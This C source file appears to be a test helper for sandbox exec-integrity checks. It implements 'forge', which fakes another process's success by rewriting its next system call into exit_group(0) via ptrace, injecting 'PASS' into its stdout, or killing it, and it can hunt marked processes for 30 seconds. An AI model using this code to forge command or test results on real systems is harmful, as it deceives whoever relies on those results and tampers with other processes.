/* forge: what a hostile process inside a sandbox does to make a later
 * command report success. Built statically by the exec-integrity tests and
 * copied into the sandbox.
 *
 *   forge ptrace PID     attach to PID, stop it at its next system call and
 *                        turn that call into exit_group(0)
 *   forge fd PID         write "PASS\n" into PID's stdout (/proc/PID/fd/1)
 *   forge signal PID     SIGKILL PID
 *   forge hunt MARK LOG  loop for 30 s: every process whose command line holds
 *                        MARK gets all three; each attempt's result is
 *                        appended to LOG ("ptrace PID: Operation not permitted")
 *
 * Exit status of the single modes: 0 when the attack worked.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int forge_ptrace(pid_t pid) {
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) return errno;
    int st;
    if (waitpid(pid, &st, __WALL) != pid) return errno;
    for (int k = 0; k < 64; k++) {
        if (ptrace(PTRACE_SYSCALL, pid, 0, 0) != 0) return errno;
        if (waitpid(pid, &st, __WALL) != pid) return errno;
        if (!WIFSTOPPED(st)) return ESRCH;
        struct user_regs_struct r;
        if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return errno;
        if ((long long)r.rax == -ENOSYS) {   /* entering a system call */
            r.orig_rax = 231;                /* exit_group */
            r.rdi = 0;
            if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) return errno;
            ptrace(PTRACE_DETACH, pid, 0, 0);
            return 0;
        }
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return EAGAIN;
}

static int forge_fd(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
    int fd = open(path, O_WRONLY);
    if (fd < 0) return errno;
    int r = write(fd, "PASS\n", 5) == 5 ? 0 : errno;
    close(fd);
    return r;
}

static int forge_signal(pid_t pid) {
    return kill(pid, SIGKILL) == 0 ? 0 : errno;
}

static int holds(pid_t pid, const char *mark) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    for (ssize_t k = 0; k < n; k++) if (!buf[k]) buf[k] = ' ';
    buf[n] = 0;
    return strstr(buf, mark) != NULL && strstr(buf, "forge") == NULL;
}

static void note(const char *log, const char *what, pid_t pid, int err) {
    FILE *f = fopen(log, "a");
    if (!f) return;
    fprintf(f, "%s %d: %s\n", what, pid, err ? strerror(err) : "done");
    fclose(f);
}

static int hunt(const char *mark, const char *log) {
    time_t end = time(NULL) + 30;
    note(log, "ready", getpid(), 0);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || !holds(pid, mark)) continue;
            note(log, "fd", pid, forge_fd(pid));
            note(log, "ptrace", pid, forge_ptrace(pid));
            note(log, "signal", pid, forge_signal(pid));
        }
        if (d) closedir(d);
        usleep(2000);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "hunt") == 0) return hunt(argv[2], argv[3]);
    if (argc != 3) {
        fprintf(stderr, "usage: forge ptrace|fd|signal PID | hunt MARK LOG\n");
        return 2;
    }
    pid_t pid = atoi(argv[2]);
    int e = strcmp(argv[1], "ptrace") == 0 ? forge_ptrace(pid)
          : strcmp(argv[1], "fd") == 0 ? forge_fd(pid)
          : strcmp(argv[1], "signal") == 0 ? forge_signal(pid) : EINVAL;
    if (e) fprintf(stderr, "forge %s %d: %s\n", argv[1], pid, strerror(e));
    return e ? 1 : 0;
}
